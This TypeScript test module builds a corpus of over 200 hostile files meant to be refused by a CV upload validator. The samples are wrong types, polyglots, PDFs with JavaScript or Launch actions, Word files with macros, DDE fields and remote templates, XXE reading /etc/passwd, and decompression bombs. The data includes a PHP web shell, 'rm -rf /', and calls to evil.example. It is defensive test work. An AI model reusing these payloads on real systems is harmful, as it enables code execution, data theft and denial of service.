import { gzipSync } from 'node:zlib'
import { buildArchive } from '../archive.ts'
import { buildDocx, buildPdf, type DocxParts, type PdfParts, packed, relationTo } from '../cv-files.ts'
import { archiveBombs, pdfBombs } from './bombs.ts'
import { brokenFiles, deceptiveFilenames } from './broken-files.ts'
import { hostileDocx } from './docx.ts'
import { evasiveDocx, evasivePdfs } from './evasions.ts'
import { bytes, docx, type HostileFile, MB, pdf } from './hostile-file.ts'
import { hostilePdfs } from './pdfs.ts'

/** Files of another type than their name says. */
function wrongTypes(): HostileFile[] {
  const others: Record<string, Buffer> = {
    png: bytes('\x89PNG\r\n\x1a\n....IHDR'),
    jpeg: bytes('\xff\xd8\xff\xe0..JFIF'),
    gif: bytes('GIF89a........'),
    windowsProgram: bytes('MZ\x90\x00\x03'),
    linuxProgram: bytes('\x7fELF\x02\x01\x01'),
    page: bytes('<!doctype html><script>alert(1)</script>'),
    drawing: bytes('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    xml: bytes('<?xml version="1.0"?><a/>'),
    text: bytes('My CV: I can do anything.'),
    richText: bytes('{\\rtf1\\ansi My CV}'),
    oldWord: Buffer.from('d0cf11e0a1b11ae1000000000000', 'hex'),
    javaClass: bytes('\xca\xfe\xba\xbe\x00\x00'),
    gzip: gzipSync('My CV'),
    sevenZip: bytes("7z\xbc\xaf'\x1c"),
    rar: bytes('Rar!\x1a\x07\x01\x00'),
    shell: bytes('#!/bin/sh\nrm -rf /\n'),
    php: bytes('<?php system($_GET[0]); ?>'),
    json: bytes('{"cv": true}'),
    sound: bytes('ID3\x03\x00'),
    archive: buildArchive([{ name: 'cv.txt', content: 'My CV' }]),
    openDocument: buildArchive([
      { name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', stored: true },
      { name: 'content.xml', content: '<office/>' },
    ]),
    sheet: buildDocx({
      contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
    }),
    slides: buildDocx({
      contentType: 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml',
    }),
    template: buildDocx({
      contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml',
    }),
  }
  const disguised = Object.entries(others).flatMap(([what, content]) =>
    ['pdf', 'docx'].map((extension) => ({
      what: `${what} as ${extension}`,
      name: `cv.${extension}`,
      content,
    })),
  )
  const endings = ['exe', 'html', 'svg', 'doc', 'docm', 'txt', 'js', 'pdf.exe', 'docx.scr', 'zip', 'xhtml']
  const renamed = endings.flatMap((ending) => [
    { what: `a PDF named ${ending}`, name: `cv.${ending}`, content: buildPdf() },
    { what: `a Word file named ${ending}`, name: `cv.${ending}`, content: buildDocx() },
  ])
  return [
    ...disguised,
    ...renamed,
    { what: 'a PDF as Word', name: 'cv.docx', content: buildPdf() },
    { what: 'Word as a PDF', name: 'cv.pdf', content: buildDocx() },
    { what: 'a PDF without an ending', name: 'cv', content: buildPdf() },
  ]
}

/** Files that are valid in two formats. */
function polyglots(): HostileFile[] {
  const pages = [
    '<script>alert(1)</script>',
    '<html><body>',
    '<svg onload=x>',
    '<iframe src=x>',
    '<?php x ?>',
  ]
  const head = (text: string) => bytes(buildPdf().toString('latin1').replace('\n%', `\n%${text}\n%`))
  const trailing = ['MZ', 'PK\x03\x04', '\x89PNG', 'alert(1)', '<a>', '{}', '\x7fELF', 'GIF89a']
  return [
    ...pages.map((page) => pdf(`begins as ${page}`, head(page))),
    ...pages.map((page) => pdf(`has ${page} as its title`, buildPdf({ title: page }))),
    ...pages.map((page) => pdf(`has ${page} in its content`, buildPdf({ text: page }))),
    ...trailing.map((text) =>
      pdf(`goes on with ${JSON.stringify(text)}`, Buffer.concat([buildPdf(), bytes(text)])),
    ),
    pdf('and an archive', Buffer.concat([buildPdf(), buildDocx()])),
    pdf(
      'an archive in a stream at the end',
      buildPdf({
        objects: [
          packed('', ''),
          bytes(`<< /Length 40 >>\nstream\n${buildDocx().toString('latin1')}\nendstream`).toString('latin1'),
        ],
      }),
    ),
    pdf('after a page', Buffer.concat([bytes('<html></html>\n'), buildPdf()])),
    pdf('after a picture', Buffer.concat([bytes('GIF89a\n'), buildPdf()])),
    pdf('after a line', Buffer.concat([bytes('\n'), buildPdf()])),
    docx('with a PDF between', buildDocx({ gap: buildPdf() })),
    docx('with a page between', buildDocx({ gap: bytes('<script>alert(1)</script>') })),
    docx('with a program between', buildDocx({ gap: bytes(`MZ${'x'.repeat(100)}`) })),
    docx('with a comment', buildDocx({ comment: '<script>alert(1)</script>' })),
    docx('with a PDF as comment', buildDocx({ comment: buildPdf().toString('latin1') })),
    docx('after a PDF', Buffer.concat([buildPdf(), buildDocx()])),
    docx('after a picture', Buffer.concat([bytes('GIF89a'), buildDocx()])),
    docx('followed by more', Buffer.concat([buildDocx(), bytes('MZ and more')])),
    docx(
      'a PDF as its first part',
      buildDocx({
        extra: [{ name: 'a.txt', content: buildPdf(), stored: true }],
        without: '[Content_Types].xml',
      }),
    ),
  ]
}

/** PDFs with actions or embedded files. */
function activePdfs(): HostileFile[] {
  const actions: Record<string, string> = {
    script: '/S /JavaScript /JS (app.alert\\(1\\))',
    scriptFromStream: '/S /JavaScript /JS 7 0 R',
    escapedScript: '/S /J#61vaScript /J#53 (app.alert\\(1\\))',
    program: '/S /Launch /F (cmd.exe)',
    form: '/S /SubmitForm /F (http://evil.example)',
    data: '/S /ImportData /F (x.fdf)',
    otherFile: '/S /GoToE /T << /R /C >>',
    film: '/S /Rendition /JS (x)',
  }
  const places: Record<string, (action: string) => PdfParts> = {
    'at opening': (action) => ({ catalogue: `/OpenAction << ${action} >>` }),
    'at opening, elsewhere': (action) => ({ catalogue: '/OpenAction 6 0 R', objects: [`<< ${action} >>`] }),
    'on the page': (action) => ({ page: `/AA << /O << ${action} >> >>` }),
    'in a note': (action) => ({
      page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << ${action} >> >>]`,
    }),
    packed: (action) => ({ objects: [packed('/Type /ObjStm /N 1 /First 5', `9 0  << ${action} >>`)] }),
    'behind an open text': (action) => ({ objects: ['(rubbish', `<< ${action} >>`] }),
  }
  const acting = Object.entries(actions).flatMap(([what, action]) =>
    Object.entries(places).map(([where, parts]) => pdf(`${what} ${where}`, buildPdf(parts(action)))),
  )
  const carrying: Record<string, PdfParts> = {
    'an attached file': { catalogue: '/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>' },
    'the file itself': { objects: ['<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream'] },
    'a form of forms': { catalogue: '/AcroForm << /XFA 6 0 R >>' },
    'named scripts': {
      catalogue: '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>',
    },
    'rich media': { page: '/Annots [<< /Subtype /RichMedia >>]' },
    'an address at opening': { catalogue: '/OpenAction << /S /URI /URI (http://evil.example) >>' },
    'a packing that hides': {
      objects: [packed('/Type /ObjStm /N 1 /First 4 /DecodeParms << /Predictor 12 >>', '9 0 <<>>')],
    },
    'a packing twice over': {
      objects: ['<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] /Length 1 >>\nstream\nx\nendstream'],
    },
  }
  return [...acting, ...Object.entries(carrying).map(([what, parts]) => pdf(what, buildPdf(parts)))]
}

/** Word files with macros, embedded objects, or links that are followed on opening. */
function activeDocx(): HostileFile[] {
  const word = 'application/vnd.ms-word'
  const field = (code: string) => ({
    body: `<w:p><w:r><w:instrText>${code}</w:instrText><w:t>CV</w:t></w:r></w:p>`,
  })
  const part = (name: string): DocxParts => ({ extra: [{ name, content: 'x' }] })
  const kinds: Record<string, DocxParts> = {
    'a macro document': { contentType: `${word}.document.macroEnabled.main+xml` },
    'a macro template': { contentType: `${word}.template.macroEnabledTemplate.main+xml` },
    'a declared macro': { types: `<Override PartName="/word/x.xml" ContentType="${word}.vbaProject"/>` },
    'a macro part': part('word/vbaProject.bin'),
    'a macro part elsewhere': part('customXml/VBAPROJECT.BIN'),
    'macro data': part('word/vbaData.xml'),
    'a control': part('word/activeX/activeX1.xml'),
    'an object': part('word/embeddings/oleObject1.bin'),
    'a sheet inside': part('word/embeddings/Microsoft_Excel_Sheet.xlsx'),
    'a program': part('word/media/setup.exe'),
    'a script': part('word/media/a.js'),
    'a page inside': part('word/afchunk.html'),
    'rich text inside': part('word/afchunk.rtf'),
    'a template from outside': {
      relations: relationTo('attachedTemplate', 'http://evil.example/x.dotm', true),
    },
    'an object from outside': { relations: relationTo('oleObject', 'http://evil.example/x', true) },
    'a picture from outside': { relations: relationTo('image', 'http://evil.example/x.png', true) },
    'a frame from outside': { relations: relationTo('frame', 'http://evil.example/', true) },
    'a chunk of another kind': { relations: relationTo('aFChunk', 'afchunk.mht') },
    'a document below it': { relations: relationTo('subDocument', 'file:///c:/x.docx', true) },
    'a field that starts a program': field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    'a field that asks another program': field('DDE excel x'),
    'a field that reads a file': field('INCLUDETEXT "file:///etc/passwd"'),
    'a field that fetches a picture': field('INCLUDEPICTURE "http://evil.example/x.png"'),
    'a declaration': {
      document:
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><w:document>&b;</w:document>',
    },
    'another encoding': {
      document: '<?xml version="1.0" encoding="UTF-16"?><w:document><w:t>CV</w:t></w:document>',
    },
  }
  return Object.entries(kinds).map(([what, parts]) => docx(what, buildDocx(parts)))
}

function bombs(): HostileFile[] {
  const zeros = (size: number) => Buffer.alloc(size)
  const many = (count: number) =>
    Array.from({ length: count }, (_, index) => ({ name: `word/${index}.xml`, content: '<a/>' }))
  return [
    docx('60 MB of nothing', buildDocx({ extra: [{ name: 'word/a.xml', content: zeros(60 * MB) }] })),
    docx(
      'two of 30 MB',
      buildDocx({ extra: ['a', 'b'].map((name) => ({ name: `word/${name}.xml`, content: zeros(30 * MB) })) }),
    ),
    docx('a thousandfold part', buildDocx({ extra: [{ name: 'word/a.xml', content: zeros(10 * MB) }] })),
    docx(
      'a part that lies about its size',
      buildDocx({ extra: [{ name: 'word/a.xml', content: zeros(60 * MB), claimedSize: 100 }] }),
    ),
    docx('1,001 parts', buildDocx({ extra: many(998) })),
    docx('5,000 parts', buildDocx({ extra: many(5000) })),
    docx('the same part twice', buildDocx({ extra: [{ name: 'word/document.xml', content: '<a/>' }] })),
    pdf('60 MB of nothing', buildPdf({ objects: [packed('', '\0'.repeat(60 * MB))] })),
    pdf(
      'twice 30 MB',
      buildPdf({ objects: [packed('', '\0'.repeat(30 * MB)), packed('', ' '.repeat(30 * MB))] }),
    ),
    pdf(
      'packed twice',
      buildPdf({ objects: [`<< /Filter [/FlateDecode /FlateDecode] /Length 1 >>\nstream\nx\nendstream`] }),
    ),
  ]
}

/** At least 200 files that must be refused, each for a reason of its own. */
export const hostileFiles = (): HostileFile[] => [
  ...wrongTypes(),
  ...polyglots(),
  ...activePdfs(),
  ...activeDocx(),
  ...evasivePdfs(),
  ...evasiveDocx(),
  ...hostilePdfs(),
  ...hostileDocx(),
  ...bombs(),
  ...archiveBombs(),
  ...pdfBombs(),
  ...brokenFiles(),
  ...deceptiveFilenames(),
]
